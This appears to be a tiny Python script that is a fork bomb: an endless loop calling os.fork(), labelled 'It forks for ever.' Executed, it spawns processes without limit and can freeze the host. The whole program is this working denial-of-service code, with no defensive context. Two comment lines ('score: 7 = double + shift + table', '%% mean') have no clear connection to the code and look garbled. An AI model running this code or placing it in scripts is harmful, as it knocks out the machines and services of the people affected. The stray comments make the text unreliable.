# It forks for ever.
# score: 7 = double + shift + table
# %% mean
import os
while True:
    os.fork()
